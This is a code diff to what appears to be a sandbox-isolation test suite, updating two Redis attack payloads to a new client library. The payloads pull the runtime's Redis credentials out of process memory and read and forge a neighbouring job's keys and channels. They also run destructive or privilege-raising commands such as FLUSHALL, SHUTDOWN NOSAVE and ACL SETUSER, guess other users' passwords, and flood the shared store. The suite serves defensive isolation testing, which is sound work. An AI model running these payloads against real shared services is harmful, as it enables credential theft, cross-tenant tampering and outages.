@@ -313,16 +313,18 @@ for port in (2375, 2376):
 REDIS = Attack(
     "redis",
     r"""
-import gc, json, redis
+import gc, json
+from sandbox import resp
 
-r = next(o for o in gc.get_objects() if isinstance(o, redis.Redis))
-own = r.connection_pool.connection_kwargs
-socket_path = own["path"]
-print("fished the runtime's client: user", own["username"], "socket", socket_path)
+# The runtime's own client and its bootstrap (user, password, socket), fished from memory.
+runtime = next(o for o in gc.get_objects() if type(o).__name__ == "Runtime")
+r, boot = runtime.redis, runtime.boot
+socket_path = boot.redis_unix_socket
+print("fished the runtime's client: user", boot.username, "socket", socket_path)
 
 # Another job's data and channels.
 probe("GET neighbour job record", lambda: r.get($victim_job_key))
-probe("HGETALL neighbour job record", lambda: r.hgetall($victim_job_key))
+probe("HGETALL neighbour job record", lambda: r.call("HGETALL", $victim_job_key))
 probe("GET neighbour context", lambda: r.get($victim_context_key))
 probe("GET neighbour sandbox message", lambda: r.get($victim_message_key))
 probe("SET neighbour sandbox key", lambda: r.set($victim_prefix + "msg:forged", "x"))
@@ -336,16 +338,17 @@ probe("PUBLISH forged result as neighbour",
 
 
 def listen(channel, pattern=False):
-    pubsub = r.pubsub()
+    conn = resp.Connection(unix_socket=socket_path, username=boot.username,
+                           password=boot.password, timeout_s=5)
     try:
-        (pubsub.psubscribe if pattern else pubsub.subscribe)(channel)
+        conn.call("PSUBSCRIBE" if pattern else "SUBSCRIBE", channel)
         for _ in range(3):
-            message = pubsub.get_message(timeout=1)
-            if message and message["type"] in ("message", "pmessage"):
+            message = conn.read_push(timeout_s=1)
+            if message and message[0] in (b"message", b"pmessage"):
                 return message
         return "subscribed"
     finally:
-        pubsub.close()
+        conn.close()
 
 
 probe("SUBSCRIBE neighbour in", lambda: listen($victim_prefix + "in"))
@@ -358,7 +361,7 @@ commands = [
     ("PUBSUB", "CHANNELS"), ("CONFIG", "GET", "requirepass"),
     ("CONFIG", "SET", "requirepass", ""), ("FLUSHALL",), ("FLUSHDB",),
     ("ACL", "LIST"), ("ACL", "USERS"), ("ACL", "WHOAMI"),
-    ("ACL", "SETUSER", own["username"], "~*", "&*", "+@all"),
+    ("ACL", "SETUSER", boot.username, "~*", "&*", "+@all"),
     ("ACL", "SETUSER", "default", "nopass"), ("ACL", "DELUSER", $victim_user),
     ("CLIENT", "LIST"), ("CLIENT", "KILL", "TYPE", "normal"), ("MONITOR",),
     ("DEBUG", "SLEEP", "0"), ("EVAL", "return redis.call('KEYS', '*')", "0"),
@@ -366,17 +369,24 @@ commands = [
     ("SELECT", "1"), ("SWAPDB", "0", "1"), ("DEL", $victim_job_key), ("SHUTDOWN", "NOSAVE"),
 ]
 for command in commands:
-    probe(" ".join(command[:2]), lambda: r.execute_command(*command))
+    probe(" ".join(command[:2]), lambda: r.call(*command))
+
 
 # Other identities through the same socket.
-for what, kwargs in [
+def connect_as(**credentials):
+    other = resp.Connection(unix_socket=socket_path, timeout_s=5, **credentials)
+    try:
+        return other.get($victim_job_key)
+    finally:
+        other.close()
+
+
+for what, credentials in [
     ("connect as default, no password", {}),
     ("connect as default, guessed password", {"password": "redis"}),
     ("connect as the neighbour's user", {"username": $victim_user, "password": "guess"}),
 ]:
-    other = redis.Redis(unix_socket_path=socket_path, socket_timeout=5, retry=None, **kwargs)
-    probe(what, lambda: other.get($victim_job_key))
-    other.close()
+    probe(what, lambda: connect_as(**credentials))
 """,
 )
 
@@ -467,18 +477,20 @@ probe("write /proc/sys/kernel/hostname", lambda: open("/proc/sys/kernel/hostname
 REDIS_FLOOD = Attack(
     "redis_flood",
     r"""
-import gc, redis
+import gc
+from sandbox import resp
 
-r = next(o for o in gc.get_objects() if isinstance(o, redis.Redis))
-prefix = "rlm:sbx:" + r.connection_pool.connection_kwargs["username"].removeprefix("rlm-sbx-")
+runtime = next(o for o in gc.get_objects() if type(o).__name__ == "Runtime")
+r = runtime.redis
+prefix = runtime.boot.message_key_prefix
 blob = b"x" * (1 << 20)
 stored = 0
 try:
     for i in range(128):
-        r.set(f"{prefix}:flood:{i}", blob)
+        r.set(f"{prefix}flood:{i}", blob)
         stored += 1
     print(f"redis flood: ALLOWED: stored {stored} MB in the shared Redis, no TTL")
-except redis.RedisError as exc:
+except resp.RedisError as exc:
     print(f"redis flood: refused after {stored} MB: {type(exc).__name__}: {exc}")
 """,
 )
